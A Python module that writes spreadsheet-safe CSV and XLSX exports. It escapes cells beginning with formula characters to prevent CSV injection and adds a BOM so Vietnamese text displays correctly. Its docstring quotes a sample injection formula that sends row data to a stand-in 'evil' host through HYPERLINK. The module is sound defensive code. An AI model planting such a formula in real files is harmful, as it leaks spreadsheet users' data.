"""CSV for people who open it in a spreadsheet: the one writer of every CSV we hand out.

- A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
  Excel/LibreOffice (`=HYPERLINK("http://evil/?"&A1, "click")` leaks the row when clicked):
  such cells get a leading `'`, which spreadsheets show as text (OWASP "CSV injection").
- The file starts with a UTF-8 byte order mark, without which Excel reads UTF-8 as the local
  code page and Vietnamese comes out garbled (`Äáº·ng` for `Đặng`).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date
from typing import Any, BinaryIO, TextIO

BOM = "\ufeff"
CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The value as a cell a spreadsheet shows as text (None is empty)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """csv.writer whose rows are written with safe cells."""

    def __init__(self, stream: TextIO):
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: TextIO) -> SafeWriter:
    """Start a CSV file on `stream` (text, opened with newline=""): the BOM, then rows."""
    stream.write(BOM)
    return SafeWriter(stream)


# ---------------------------------------------------------------------------- tables

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Cell formats by column type: money in whole dong with a thousands separator, rates as
# percentages, dates day/month/year as Vietnamese officers write them.
XLSX_FORMATS = {
    "integer": "#,##0",
    "money": '#,##0 "₫"',
    "rate": "0.00%",
    "decimal": "#,##0.00",
    "date": "dd/mm/yyyy",
}


def table_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole table as CSV text (BOM, header row, formula-safe cells)."""
    out = io.StringIO(newline="")
    w = writer(out)
    w.writerow(headers)
    w.writerows(rows)
    return out.getvalue()


def _xlsx_value(value: Any, kind: str) -> Any:
    if value is None:
        return None
    if kind == "date" and isinstance(value, str):
        return date.fromisoformat(value)
    if kind in ("integer", "money") and not isinstance(value, bool):
        return int(value)
    if kind in ("rate", "decimal"):
        return float(value)
    if kind == "date":
        return value
    return safe_cell(value)  # text: ids and codes as text too


def table_xlsx(
    title: str, headers: Sequence[str], types: Sequence[str], rows: Iterable[Sequence[Any]]
) -> bytes:
    """A whole table as an XLSX workbook (see `write_xlsx`), in memory."""
    out = io.BytesIO()
    write_xlsx(out, title, headers, types, rows)
    return out.getvalue()


def write_xlsx(
    out: BinaryIO,
    title: str,
    headers: Sequence[str],
    types: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    sheet_rows: int = 1_000_000,
) -> None:
    """Write an XLSX workbook to `out`: a bold header row, then the rows with real number and
    date cells formatted by column type (text cells formula-safe). Streamed (openpyxl's
    write-only mode); after `sheet_rows` rows a new sheet starts, with the header again (a
    sheet holds at most 1,048,576 rows)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    name = _sheet_title(title)

    def new_sheet(n: int):
        ws = wb.create_sheet(title=name if n == 1 else f"{name[:26]} ({n})")
        header = []
        for text in headers:
            cell = WriteOnlyCell(ws, value=safe_cell(text))
            cell.font = bold
            header.append(cell)
        ws.append(header)
        return ws

    sheets, count = 1, 0
    ws = new_sheet(sheets)
    for row in rows:
        if count == sheet_rows:
            sheets, count = sheets + 1, 0
            ws = new_sheet(sheets)
        cells = []
        for value, kind in zip(row, types, strict=True):
            cell = WriteOnlyCell(ws, value=_xlsx_value(value, kind))
            if kind in XLSX_FORMATS:
                cell.number_format = XLSX_FORMATS[kind]
            cells.append(cell)
        ws.append(cells)
        count += 1
    wb.save(out)


def _sheet_title(title: str) -> str:
    """A sheet name Excel accepts: at most 31 characters, none of []:*?/\\."""
    cleaned = "".join(" " if c in "[]:*?/\\" else c for c in title).strip()
    return (cleaned or "Sheet")[:31]
